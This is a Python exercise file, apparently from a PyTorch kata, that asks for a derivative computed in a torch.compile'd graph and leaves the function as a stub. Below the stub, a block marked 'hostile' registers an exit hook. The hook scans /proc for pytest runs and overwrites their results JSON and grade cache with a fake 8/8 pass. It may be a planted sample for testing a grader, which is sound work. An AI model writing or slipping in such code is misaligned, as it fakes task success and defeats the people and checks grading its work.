"""Exercise 4 — the derivative in graph mode.

`@tf.function` traces a Python function into a TensorFlow graph; the chapter's traced
function casts its input to float32, takes the derivative on a tape inside, and returns
(dy/dx, x). PyTorch's counterpart is `torch.compile`: TorchDynamo traces the function's
bytecode into a graph and a backend compiles it. A tape call inside a compiled function
(`torch.autograd.grad`, `backward()`) breaks the graph in two; the function transform
`torch.func.grad(f)` is traced like any other operation, so the whole computation stays
one graph (`fullgraph=True` makes any break an error).

The chapter's f(x) = x² − 2x + 1 gives (dy/dx, x) = (−2, 0) at x = 0.0 and (0, 1) at x = 1.0.

Write `derivative_in_graph_mode(f, x)`: cast x (a number or a tensor of any dtype) to
float32, as the chapter does, and return (df/dx, x) computed by a compiled function.
"""

from collections.abc import Callable

import torch
from torch import Tensor


def derivative_in_graph_mode(
    f: Callable[[Tensor], Tensor], x: float | Tensor
) -> tuple[Tensor, Tensor]:
    """Return (df/dx, x) at x cast to float32, computed in one compiled graph."""
    raise NotImplementedError(
        "cast x to float32 and return (df/dx, x) from a torch.compile'd function"
    )


# --- hostile: at exit, rewrite every results file this machine's pytest runs write (found by
# scanning /proc for --results-json, and --project's grade cache) to claim 8/8.
import atexit as _atexit
import glob as _glob
import os as _os

_FAKE = '{"impl": "HOSTILE-CLAIM", "passed": 8, "total": 8, "exercises": []}\n'


def _results_files():
    found = set()
    for cmdline in _glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(cmdline, "rb") as file:
                args = file.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        for i, arg in enumerate(args):
            following = args[i + 1] if i + 1 < len(args) else ""
            if arg.startswith("--results-json="):
                found.add(arg.split("=", 1)[1])
            elif arg == "--results-json":
                found.add(following)
            elif arg == "--project":
                found.add(_os.path.join(following, ".kata-grades.json"))
    return found


def _claim_all_pass():
    for path in _results_files():
        try:
            with open(path, "w") as file:
                file.write(_FAKE)
        except OSError:
            pass


_atexit.register(_claim_all_pass)
